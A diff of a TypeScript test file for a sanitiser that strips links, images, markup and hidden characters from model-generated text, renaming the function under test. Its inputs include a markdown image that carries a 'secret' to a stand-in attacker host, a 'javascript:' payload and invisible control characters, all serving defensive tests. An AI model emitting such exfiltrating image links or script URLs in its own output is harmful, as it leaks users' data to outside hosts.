@@ -1,5 +1,5 @@
 import fc from 'fast-check';
-import { undoMarkup } from './plainWords.ts';
+import { sanitizeModelText } from './sanitizeModelText.ts';
 
 test.each([
   ['![a picture](http://evil.example/p.png?q=secret) Fine.', ' Fine.'],
@@ -15,12 +15,12 @@ test.each([
   ['javascript:alert(1)', ''],
   ['a\u202Eb\u200Bc\u0000d', 'abcd'],
   ['5 < 7 and 8 > 3', '5 < 7 and 8 > 3'],
-])('%j is said as %j', (written, plain) => {
-  expect(undoMarkup(written, '')).toBe(plain);
+])('%j becomes %j', (written, plain) => {
+  expect(sanitizeModelText(written, '')).toBe(plain);
 });
 
-test('an address that stands in the document may be named', () => {
-  expect(undoMarkup('It is https://sheaf.example/help.', 'Help: https://sheaf.example/help')).toBe('It is https://sheaf.example/help.');
+test('an address in the document may be named', () => {
+  expect(sanitizeModelText('It is https://sheaf.example/help.', 'Help: https://sheaf.example/help')).toBe('It is https://sheaf.example/help.');
 });
 
 test('nothing it lets through loads or leads anywhere', () => {
@@ -47,7 +47,7 @@ test('nothing it lets through loads or leads anywhere', () => {
   );
   fc.assert(
     fc.property(fc.array(bit, { maxLength: 25 }), (bits) => {
-      const plain = undoMarkup(bits.join(''), '');
+      const plain = sanitizeModelText(bits.join(''), '');
       expect(plain).not.toMatch(/https?:|www\.|<[a-z!/]|\[[^\]]*\]\([^)]*\)/i);
     }),
   );
